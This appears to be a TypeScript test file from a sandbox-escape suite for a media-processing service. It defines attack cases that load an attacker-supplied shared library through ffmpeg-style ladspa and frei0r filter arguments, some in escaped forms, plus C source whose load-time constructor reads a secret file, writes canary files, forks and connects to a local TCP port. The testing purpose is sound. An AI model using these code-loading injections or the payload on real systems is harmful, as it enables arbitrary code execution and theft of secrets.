import { PICTURE, TONE } from "./attack.ts"
import type { Attack } from "./attack.ts"
import type { CanaryPaths } from "./canaries.ts"

/** Attacks that bring machine code along. */
export const RUNNING: Attack[] = [
  {
    name: "a library for ladspa",
    words: () => `${TONE} -af ladspa=file=./in_1.so:plugin=x -f u8 out_1`,
    inputs: (place) => ({ in_1: ["lib.so", { source: sourceOf(place) }] }),
  },
  {
    name: "a library for ladspa by its key, in escapes",
    words: () => String.raw`${TONE} -af "la\dspa@a=f=.'/'{{in_1}}:p=x" -f u8 out_1`,
    inputs: (place) => ({ in_1: ["lib.so", { source: sourceOf(place) }] }),
    unproven: "the name of a filter is not unescaped",
  },
  {
    name: "a library for ladspa in a source of sound",
    words: () => "-f lavfi -i ladspa=file=./in_1.so:plugin=x -t 0.1 -f u8 out_1",
    inputs: (place) => ({ in_1: ["lib.so", { source: sourceOf(place) }] }),
  },
  {
    name: "a library for ladspa with the name of a picture",
    words: () => `${TONE} -filter_complex "[0:a]ladspa=./in_1.png:x[a]" -map "[a]" -f u8 out_1`,
    inputs: (place) => ({ in_1: ["lib.png", { source: sourceOf(place) }] }),
    unproven: "it adds .so to a name",
  },
  {
    name: "a library for frei0r",
    words: () => `${PICTURE} -vf frei0r=filter_name=./in_1 -f rawvideo out_1`,
    inputs: (place) => ({ in_1: ["lib.so", { source: sourceOf(place) }] }),
    unproven: "it searches its own folders only",
  },
]

/** C that does, as it is loaded, what no code in a job may do. */
function sourceOf({ outside, tcpPort }: CanaryPaths): string {
  return `
#include <stdio.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <sys/socket.h>
__attribute__((constructor)) static void attack(void) {
  char text[64] = "nothing";
  FILE *file = fopen("${outside}/secret", "r");
  if (file) { fgets(text, sizeof text, file); fclose(file); }
  fprintf(stderr, "error: loaded %s\\n", text);
  file = fopen("${outside}/by_library", "w");
  if (file) fclose(file);
  if (fork() == 0) { file = fopen("${outside}/by_child", "w"); _exit(0); }
  int socket_fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(${tcpPort}) };
  inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
  connect(socket_fd, (struct sockaddr *)&to, sizeof to);
}`
}
